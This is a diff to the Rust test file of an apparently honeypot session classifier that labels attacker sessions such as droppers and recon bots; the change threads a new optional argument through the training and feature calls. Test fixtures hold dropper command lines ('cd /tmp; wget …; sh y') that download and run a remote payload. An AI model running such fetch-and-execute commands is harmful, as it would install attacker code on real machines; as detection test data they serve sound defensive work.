@@ -61,7 +61,7 @@ mod small {
             .iter()
             .map(|(t, l)| (Some(*t), (*l).to_owned()))
             .collect();
-        model.predict(&features_after(&lines, &Protocol::default(), commands).vector(None))
+        model.predict(&features_after(&lines, &Protocol::default(), None, commands).vector(None))
     }
 
     #[test]
@@ -70,7 +70,7 @@ mod small {
             trees: 1,
             ..TrainParams::default()
         };
-        let model = ClassifierModel::train(&dataset(), &tree).unwrap();
+        let model = ClassifierModel::train(&dataset(), &tree, None).unwrap();
         let dropper = [
             (0.0, "uname -a"),
             (1.0, "cd /tmp; wget http://203.0.113.7/y; sh y"),
@@ -103,7 +103,7 @@ mod small {
 
     #[test]
     fn the_model_never_names_a_class_the_rules_ruled_out() {
-        let model = ClassifierModel::train(&dataset(), &TrainParams::default()).unwrap();
+        let model = ClassifierModel::train(&dataset(), &TrainParams::default(), None).unwrap();
         // No training session planted a key; the trees would call this a dropper or a recon
         // bot, but once R2 fired the label can only be R1 or R2.
         let key = [
@@ -150,19 +150,19 @@ mod small {
             (Some(0.0), "uname -a".to_owned()),
             (Some(1.0), "cd /tmp; wget http://x/y; sh y".to_owned()),
         ];
-        let rows = prefix_vectors(&lines, &Protocol::default());
+        let rows = prefix_vectors(&lines, &Protocol::default(), None);
         assert_eq!(rows.len(), 4);
         assert_eq!(
             rows.iter().map(|r| r[1]).collect::<Vec<_>>(),
             [1.0, 2.0, 3.0, 4.0]
         );
         assert_eq!(
-            features_after(&lines, &Protocol::default(), Some(3)).commands(),
+            features_after(&lines, &Protocol::default(), None, Some(3)).commands(),
             3
         );
         assert_eq!(
             rows[2],
-            features_after(&lines, &Protocol::default(), Some(3)).vector(None)
+            features_after(&lines, &Protocol::default(), None, Some(3)).vector(None)
         );
     }
 
@@ -172,8 +172,8 @@ mod small {
             trees: 5,
             ..TrainParams::default()
         };
-        let a = ClassifierModel::train(&dataset(), &params).unwrap();
-        let b = ClassifierModel::train(&dataset(), &params).unwrap();
+        let a = ClassifierModel::train(&dataset(), &params, None).unwrap();
+        let b = ClassifierModel::train(&dataset(), &params, None).unwrap();
         assert_eq!(a.to_json(), b.to_json());
         assert_eq!(a.trees.len(), 5 * CLASSES.len());
         let dropper = [
@@ -190,7 +190,7 @@ mod small {
 
     #[test]
     fn the_model_survives_a_json_round_trip_and_refuses_other_formats() {
-        let model = ClassifierModel::train(&dataset(), &TrainParams::default()).unwrap();
+        let model = ClassifierModel::train(&dataset(), &TrainParams::default(), None).unwrap();
         let back = ClassifierModel::from_json(&model.to_json()).unwrap();
         assert_eq!(back, model);
         let other = model
@@ -202,7 +202,7 @@ mod small {
         ));
         assert!(ClassifierModel::from_json("{}").is_err());
         assert!(matches!(
-            ClassifierModel::train(&[], &TrainParams::default()),
+            ClassifierModel::train(&[], &TrainParams::default(), None),
             Err(ClassifierError::Empty)
         ));
     }
@@ -216,6 +216,7 @@ mod small {
             rows: 0,
             sessions: 0,
             priors: vec![0.0; CLASSES.len()],
+            phases: false,
             trees: vec![Tree {
                 nodes: vec![Node::Split {
                     feature: FEATURES + 5,
@@ -251,9 +252,9 @@ mod corpus {
         for s in test {
             let (lines, protocol) = classifier_input(s);
             let truth = s.label.as_deref().and_then(class_named);
-            let at = |n| model.predict(&features_after(&lines, &protocol, n).vector(None));
+            let at = |n| model.predict(&features_after(&lines, &protocol, None, n).vector(None));
             early += usize::from(Some(at(Some(3)).class) == truth);
-            let f = features_after(&lines, &protocol, None);
+            let f = features_after(&lines, &protocol, None, None);
             end += usize::from(Some(model.predict(&f.vector(None)).class) == truth);
             agree += usize::from(Some(f.rule_class()) == truth);
         }
@@ -346,7 +347,7 @@ mod corpus {
         ];
         for (name, params) in variants {
             let started = std::time::Instant::now();
-            let model = evaluate::train_classifier(&train, &params).unwrap();
+            let model = evaluate::train_classifier(&train, &params, None).unwrap();
             let trained = started.elapsed();
             let (after_3, at_end, agree, n) = judge(&model, &test);
             println!(
